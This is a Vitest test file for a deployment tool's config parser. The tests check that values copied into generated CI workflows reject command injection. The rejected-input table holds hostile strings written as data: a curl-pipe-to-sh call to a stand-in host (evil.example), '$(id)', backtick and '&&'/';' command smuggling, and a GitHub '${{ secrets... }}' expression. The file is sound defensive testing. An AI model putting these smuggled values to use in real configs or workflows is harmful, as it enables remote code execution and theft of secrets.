import { describe, expect, test } from "vitest";
import { parseConfig } from "../../src/config/load.js";
import { type Diagnostic, ShipgateError } from "../../src/errors.js";

const FILE = "shipgate.yml";

/** Every key here is copied into a generated workflow, so each has a grammar the value must fit. */
const BASE = `app:
  name: orders-api
  language: node
  healthPath: /health
  commands:
    test: npm test
artifact:
  repository: team/orders-api
environments:
  staging:
    url: https://staging.example.com
    verify:
      smoke: .shipgate/smoke.yml
    target:
      type: kubernetes
      cluster: main
      namespace: orders
      deployment: orders-api
      container: app
      region: eu-west-1
  local:
    target:
      type: local
      port: 8080
      runner: build-box
`;

function diagnosticsOf(text: string): Diagnostic[] {
  try {
    parseConfig({ text, file: FILE });
  } catch (error) {
    expect(error).toBeInstanceOf(ShipgateError);
    expect((error as ShipgateError).exitCode).toBe(2);
    return (error as ShipgateError).diagnostics;
  }
  throw new Error("expected the config to be rejected");
}

/** BASE with the value of `key:` (first occurrence) replaced; the diagnostic's position is that value's. */
function withValue(key: string, value: string): { text: string; line: number; column: number } {
  const lines = BASE.split("\n");
  const index = lines.findIndex((l) => l.trimStart().startsWith(`${key}:`));
  const indent = lines[index]!.indexOf(key);
  lines[index] = `${" ".repeat(indent)}${key}: ${value}`;
  return { text: lines.join("\n"), line: index + 1, column: indent + key.length + 3 };
}

function onlyDiagnostic(key: string, value: string): Diagnostic {
  const { text, line, column } = withValue(key, value);
  const diagnostics = diagnosticsOf(text);
  expect(diagnostics).toHaveLength(1);
  expect(diagnostics[0]!.location).toEqual({ file: FILE, line, column });
  return diagnostics[0]!;
}

describe("values that reach generated workflows", () => {
  test("the base configuration is valid", () => {
    expect(() => parseConfig({ text: BASE, file: FILE })).not.toThrow();
  });

  test.each([
    ["healthPath", "/health?deep=1&verbose=1"],
    ["healthPath", "/status/$(not-a-command);x='1'"],
    ["smoke", "smoke/staging-v2.yml"],
    ["repository", "registry.example/team/orders_api.v2"],
    ["url", "https://user@staging.example.com:8443/app"],
    ["test", "npm test -- --grep 'a|b' && echo \"$HOME\""],
  ])("%s: %s is accepted", (key, value) => {
    expect(() => parseConfig({ text: withValue(key, JSON.stringify(value)).text, file: FILE })).not.toThrow();
  });

  test("a health path with a space says to percent-encode it", () => {
    const d = onlyDiagnostic("healthPath", '"/health check"');
    expect(d.message).toBe(
      'invalid value "/health check" for app.healthPath: expected a URL path such as /health or /health?deep=1, with spaces, quotes, backticks, braces and other characters a URL cannot hold percent-encoded (a space is %20)',
    );
    expect(d.hint).toMatch(/^set healthPath to a URL path/);
  });

  test("a health path without its leading slash", () => {
    const d = onlyDiagnostic("healthPath", "health");
    expect(d.message).toMatch(
      /^invalid value "health" for app.healthPath: expected a URL path such as \/health/,
    );
  });

  test("an expression anywhere is named as one, and nothing else is reported for it", () => {
    const d = onlyDiagnostic("test", '"npm test -- --token=${{ secrets.NPM_TOKEN }}"');
    expect(d.message).toBe(
      'app.commands.test contains "${{", which GitHub evaluates as an expression in the generated workflow before any step runs',
    );
    expect(d.hint).toBe(
      'write the value itself; a secret or variable belongs in the environment of the job and is read at run time, e.g. "$NPM_TOKEN"',
    );
    expect(onlyDiagnostic("healthPath", '"/health${{ github.token }}"').message).toMatch(/contains "\$\{\{"/);
  });

  test.each([
    ["smoke", '"smoke.yml; curl https://evil.example | sh"', "a relative path"],
    ["smoke", "/etc/smoke.yml", "a relative path"],
    ["smoke", "-rf.yml", "a relative path"],
    ["repository", '"Orders API"', "an image repository name"],
    ["repository", '"orders-api:latest"', "an image repository name"],
    ["namespace", '"orders$(id)"', "a Kubernetes name"],
    ["deployment", "Orders", "a Kubernetes name"],
    ["cluster", '"main;id"', "an EKS cluster name"],
    ["region", '"eu-west-1 && id"', "an AWS region such as us-east-1"],
    ["runner", '"box`id`"', "a runner label"],
    ["url", '"https://staging.example.com/a b"', "an http or https URL"],
    ["url", "ftp://staging.example.com", "an http or https URL"],
  ])("%s: %s is rejected as not %s", (key, value, expected) => {
    const d = onlyDiagnostic(key, value);
    expect(d.message).toContain(`expected ${expected}`);
    expect(d.hint).toContain(expected);
  });

  test("a value that is no URL at all", () => {
    const d = onlyDiagnostic("url", "staging.example.com");
    expect(d.message).toBe(
      'environments.staging.url must be an absolute http or https URL, got "staging.example.com"',
    );
    expect(d.hint).toBe("include the scheme, e.g. https://staging.example.com");
  });

  test("a branch is one line, without spaces", () => {
    const diagnostics = diagnosticsOf(`${BASE}ci:\n  branches: ["main\\nid"]\n`);
    expect(diagnostics).toHaveLength(1);
    expect(diagnostics[0]!.message).toBe(
      'invalid value "main\\nid" for ci.branches[0]: expected a branch name or pattern, without spaces or control characters',
    );
    expect(diagnostics[0]!.location).toEqual({ file: FILE, line: 27, column: 14 });
  });
});
